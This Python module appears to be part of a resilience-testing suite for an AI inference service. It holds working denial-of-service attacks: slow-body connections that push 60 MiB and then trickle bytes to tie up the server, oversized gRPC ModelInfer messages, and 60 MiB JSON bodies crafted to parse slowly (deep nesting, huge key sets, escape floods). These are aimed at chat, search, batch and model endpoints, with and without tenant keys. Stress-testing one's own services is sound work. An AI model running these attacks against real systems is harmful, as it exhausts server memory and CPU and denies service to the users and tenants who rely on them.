"""Large bodies: held in the server's memory, and parsed where everybody waits."""

from __future__ import annotations

import asyncio
import itertools
from collections.abc import Iterator

from attacks.target import Tally, Target, ask, say

BODY_BYTES = 60 << 20
PIECE_BYTES = 1 << 18
HELD = 30  # connections
HELD_BACK = 1000  # bytes that never come
BYTE_EVERY_S = 5.0
TRIES_MAX = 4
RETRY_S = 2.0
MESSAGES, ROUNDS = 12, 4  # over gRPC
JSON_AT_ONCE, JSON_MAX = 4, 60
NOBODY = "m-of-nobody"


async def _hold(target: Target, tally: Tally, requests: list[tuple[str, str, str]]) -> None:
    """HELD connections that send nearly all of a body; `requests`: method, path and key, in turn."""
    piece, unsent = b" " * PIECE_BYTES, HELD

    async def one(method: str, path: str, key: str) -> None:
        nonlocal unsent
        for number in range(TRIES_MAX):
            writer = None
            try:
                reader, writer = await asyncio.open_connection(target.host, target.port)
                writer.write(target.head(method, path, BODY_BYTES + HELD_BACK, key=key))
                for _ in range(BODY_BYTES // PIECE_BYTES):
                    writer.write(piece)
                    await writer.drain()
                if number == 0:
                    unsent -= 1
                answer = asyncio.ensure_future(reader.read(4096))
                while not (await asyncio.wait({answer}, timeout=BYTE_EVERY_S))[0]:
                    writer.write(b" ")
                tally.reply(answer.result())
            except OSError:
                tally.add("cut off")
                unsent -= number == 0
            finally:
                if writer is not None:
                    writer.transport.abort()
            if not unsent:
                say("begun")
                unsent = -1
            await asyncio.sleep(RETRY_S)

    say("begun")
    async with asyncio.TaskGroup() as tasks:
        for asked, _ in zip(itertools.cycle(requests), range(HELD), strict=False):
            tasks.create_task(one(*asked))


async def no_body_held(target: Target, tally: Tally) -> None:
    """60 MiB each to an operation that takes no body, without a key."""
    await _hold(target, tally, [("GET", "/health", "")])


async def bodies_held(target: Target, tally: Tally) -> None:
    """60 MiB each to operations that take bodies, half of them with a tenant's key."""
    paths = ["/v1/chat/completions", "/_plugins/_ml/connectors/_search", "/v1/double/latest", "/v1/batches"]
    paths += [f"/tenant/deployments/v2/llms/{NOBODY}/generate", f"/v2/models/{NOBODY}/infer", "/batchmill/v1/jobs"]
    await _hold(target, tally, [("POST", path, key) for path in paths for key in ("", target.tenant)])


async def grpc_messages(target: Target, tally: Tally) -> None:
    """Messages of 60 MiB over gRPC, without a key."""
    import grpc

    length, size = BODY_BYTES, bytearray()
    while length:
        size.append(length & 0x7F | (0x80 if length > 0x7F else 0))
        length >>= 7
    message = b"\x0a\x06double\x3a" + bytes(size) + bytes(BODY_BYTES)  # model_name, raw_input_contents

    def send() -> None:
        options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
        with grpc.insecure_channel(target.grpc, options=options) as channel:
            call = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer")
            for _ in range(ROUNDS):
                try:
                    call(message, timeout=60)
                    tally.add("OK")
                except grpc.RpcError as error:
                    tally.add(error.code().name)

    say("begun")
    await asyncio.gather(*[asyncio.to_thread(send) for _ in range(MESSAGES)])


def _texts() -> Iterator[bytes]:
    """Bodies of 60 MiB of JSON: what parses fast and what does not."""
    yield b'{"query": "' + b"a" * BODY_BYTES + b'"}'
    yield b'{"query": {"terms": {"name": [' + b"1," * (BODY_BYTES // 2) + b"1]}}}"
    yield b'{"parameters": {' + b",".join(b'"%07d":[]' % n for n in range(BODY_BYTES // 13)) + b"}}"
    yield b'{"inputs": [' + b"[{}]," * (BODY_BYTES // 5) + b"0]}"
    yield b'{"inputs": "' + rb"\u00e9\n" * (BODY_BYTES // 8) + b'"}'
    yield b"[" * BODY_BYTES


async def large_json(target: Target, tally: Tally) -> None:
    """JSON of 60 MiB to searches and to models that do not exist, by a tenant and by strangers."""
    bodies = list(_texts())
    paths = ["/_plugins/_ml/connectors/_search", f"/_plugins/_ml/models/{NOBODY}/_predict"]
    paths += [f"/tenant/deployments/v2/llms/{NOBODY}/generate", f"/other/deployments/v2/llms/{NOBODY}/generate"]
    paths += ["/_plugins/_ml/_predict/text_embedding/" + NOBODY, "/v1/chat/completions"]
    requests = itertools.islice(
        itertools.cycle((path, key, body) for path in paths for key in (target.tenant, "") for body in bodies), JSON_MAX
    )

    async def sender() -> None:
        for path, key, body in requests:
            await ask(target, tally, "POST", path, body, key=key)

    say("begun")
    await asyncio.gather(*[sender() for _ in range(JSON_AT_ONCE)])
